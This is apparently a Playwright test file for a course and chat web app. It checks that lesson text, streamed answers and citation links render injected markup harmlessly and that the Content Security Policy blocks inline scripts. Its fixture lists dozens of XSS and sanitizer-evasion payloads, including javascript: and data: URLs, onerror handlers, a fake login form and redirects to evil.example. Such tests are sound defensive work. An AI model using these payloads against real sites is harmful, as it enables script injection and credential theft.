"""Hostile content of lessons, answers and questions is shown as text: no scripts, requests or misleading links.

A fixture (conftest.py) fails every test with dialogs, errors, refused scripts or requests to other origins.
"""

from collections.abc import Iterator

import pytest
from playwright.async_api import Page, expect

from courses.models import Course, Enrollment
from tests.browser.pages import Chat

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.usefixtures("worker")]

EVIL = "https://evil.example"
HOSTILE = [
    "zebra <script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=2">',
    "[lure](javascript:window.pwned=3)",
    '<svg onload="window.pwned=4"></svg>',
    f"![pixel]({EVIL}/p.png)",
    f'<iframe src="{EVIL}"></iframe>',
    '<a href="javascript:alert(5)">trap</a>',
    "<details open ontoggle=alert(6)>",
]
MORE_HOSTILE = [
    "[x](data:text/html,<script>alert(7)</script>)",
    "[y](JaVa\tScRiPt:alert(8))",
    "[z](&#106;avascript:alert(9))",
    "<javascript:alert(10)>",
    '![a](x"onerror="alert(11))',
    '[b](https://ok.example "\\"onmouseover=alert(12)")',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
    "`<img src=x onerror=alert(14)>`",
    "```html\n<script>alert(15)</script>\n```",
    f'<link rel=stylesheet href="{EVIL}/s.css"><meta http-equiv=refresh content="0;url={EVIL}">',
    f'<form action="{EVIL}"><input name=password><button>Sign in</button></form>',
    f'<style>@import "{EVIL}/t.css"; body {{ display: none }}</style>',
    '<p id="chat" class="composer" style="position:fixed;inset:0">over everything</p>',
    f'<video src="{EVIL}/v.mp4" autoplay></video><base href="{EVIL}/">',
    "<!-- <script>alert(16)</script> --><script>alert(17)</script>",
    "</script></noscript></pre></textarea></title><script>alert(18)</script>",
    # Their definitions come later, perhaps in another delta.
    f"[late][a] ![later][b] ![latest][c]\n\n[a]: javascript:alert(23)\n[b]: {EVIL}/b.png\n[c]: data:text/html,x",
    f"![no protocol](//{EVIL.removeprefix('https://')}/n.png)",
    '![drawing](data:image/svg+xml,<svg/onload="alert(25)">)',
    "[v](vbscript:msgbox(26)) [f](file:///etc/passwd) [n](java&NewLine;script:alert(27)) [b](blob:https://x/1)",
    f'<{EVIL}/"onclick="alert(28)> [out]({EVIL}/out)',
]
TITLE = 'Zebra </title><script>alert(19)</script> "<img src=x onerror=alert(20)>'
HEADING = "Stripes <img src=x onerror=alert(21)>"
QUESTION = "What is the zebra list <img src=x onerror=alert(22)>?"
LIST = "The zebra list:\n\n" + "\n".join(f"- {item}" for item in HOSTILE)

# The elements that hold text of people and models, beside the page's own buttons and icons.
SAID = [
    *(f"#messages [data-part={part}]" for part in ("text", "body", "source-list", "follow-up-list")),
    "#history [data-part=open]",
]
RUNNABLE = "script, iframe, object, embed, svg, math, style, link, meta, base, form, input, video, details, [id=chat]"
# What text must not turn into: elements that run or load something, cover the page or link to a script.
HARMFUL = """({ root, runnable }) => {
    const leads = ({ name, value }) => {
        if (name !== "href" && name !== "src") return /^(on|style$|srcset$|xlink|action$)/i.test(name);
        const { protocol, origin } = new URL(value, location.href);
        if (name === "src") return origin !== location.origin;
        return !["http:", "https:", "mailto:"].includes(protocol);
    };
    const unmarked = ({ tagName, href, rel }) =>
        tagName === "A" && href && new URL(href).origin !== location.origin && !/noopener.*nofollow/.test(rel);
    const isHarmful = (node) => [...node.attributes].some(leads) || unmarked(node);
    const harmful = [...root.querySelectorAll("*")].filter(isHarmful);
    return [...root.querySelectorAll(runnable), ...harmful].map((node) => node.outerHTML);
}"""


@pytest.fixture
def hostile_course(learner) -> Iterator[Course]:
    course = Course.objects.create(slug="test-hostile", title=TITLE, summary="\n".join(HOSTILE))
    body = f"# {TITLE}\n\n## {HEADING}\n\n{LIST}\n\n" + "\n\n".join(MORE_HOSTILE)
    lesson = course.lessons.create(slug="zebra", position=1, title=TITLE, body=body)
    course.passages.create(lesson=lesson, position=1, heading=HEADING, text=LIST)
    Enrollment.objects.create(course=course, user=learner)
    yield course
    course.delete()


async def assert_harmless(page: Page, *selectors: str) -> None:
    for selector in selectors:
        root = await page.query_selector(selector)
        assert root, selector
        assert await page.evaluate(HARMFUL, {"root": root, "runnable": RUNNABLE}) == []
    assert await page.evaluate("window.pwned") is None


async def test_lesson_text_cannot_inject_markup(context, hostile_course):
    page = await context.new_page()
    await page.goto("/courses/")
    await page.get_by_role("link", name=TITLE).click()
    await page.get_by_role("link", name=TITLE).click()
    body = page.locator("#lesson")
    await expect(body).to_contain_text("window.pwned=1</script>")
    await expect(body).to_contain_text("<svg onload=")
    await assert_harmless(page, "#lesson", "#contents")
    address = page.url
    await body.get_by_text("lure").click()
    await expect(page).to_have_url(address)


async def test_answer_text_cannot_inject_markup_during_or_after_streaming(context, hostile_course, simulator):
    simulator.set(token_interval=0.008)
    chat = Chat(await context.new_page(), hostile_course)
    await chat.open()
    answer = await chat.ask(QUESTION)
    await answer.is_under_way()
    await assert_harmless(chat.page, *SAID[:2])
    await answer.becomes("completed")
    stored = await chat.rows.answer()
    assert [item for item in HOSTILE if item not in stored] == [], "the simulator did not quote all of it"
    await expect(answer.body).to_contain_text("<script>window.pwned=1</script>")
    await expect(chat.questions).to_have_text(QUESTION)
    await assert_harmless(chat.page, *SAID)
    shown = await answer.words()
    await chat.page.reload()
    await chat.answer.becomes("completed")
    assert await chat.answer.words() == shown
    await assert_harmless(chat.page, *SAID)


async def test_stream_cut_at_any_point_is_harmless(chat):
    """Deltas may end anywhere: render every prefix as the page does during an answer."""
    harmful = await chat.page.evaluate(
        """async ({ text, runnable }) => {
            const harmful = HARMFUL;
            const { GrowingMarkdown, settle } = await import("/static/site/growing.js");
            const { answerParser } = await import("/static/conversations/citations.js");
            const root = document.createElement("div");
            document.body.append(root);
            const growing = new GrowingMarkdown(root, answerParser);
            const found = [];
            for (let end = 1; end <= text.length; end += 1) {
                growing.update(settle(text.slice(0, end)));
                found.push(...harmful({ root, runnable }));
            }
            return found;
        }""".replace("HARMFUL", HARMFUL),
        {"text": "\n\n".join([*HOSTILE, *MORE_HOSTILE]), "runnable": RUNNABLE},
    )
    assert harmful == []


async def test_markdown_link_definition_does_not_redirect_citations(chat):
    """`[1]: https://...` is a Markdown link definition; it must not change where the citation [1] links to."""
    links = await chat.page.evaluate(
        """async (text) => {
            const { GrowingMarkdown } = await import("/static/site/growing.js");
            const { answerParser, linkCitations } = await import("/static/conversations/citations.js");
            const root = document.createElement("div");
            new GrowingMarkdown(root, answerParser).update(text);
            linkCitations(root, [{ n: 1, lessonId: "5", title: "Joins", heading: "" }], () => "/lessons/5/");
            return [...root.querySelectorAll("a")].map((link) => link.getAttribute("href"));
        }""",
        f"As the lesson says [1].\n\n[1]: {EVIL}/login",
    )
    assert links == ["/lessons/5/"]


async def test_content_security_policy_blocks_inline_code(context, sql_course, witness):
    chat = Chat(await context.new_page(), sql_course)
    for path in (chat.path, "/courses/", "/api/docs", "/admin/login/", "/no-such-page"):
        response = await context.request.get(path)
        policy = response.headers["content-security-policy"]
        assert "default-src 'self'" in policy, path
        assert "unsafe" not in policy, path
    await chat.page.goto("/courses/")
    await chat.page.evaluate(
        """() => {
            const inline = document.createElement("script");
            inline.textContent = "window.pwned = 1";
            document.body.append(inline);
        }"""
    )
    assert await chat.page.evaluate("window.pwned") is None
    [refusal] = witness.seen
    assert refusal.startswith("Executing inline script violates")
    witness.seen.clear()
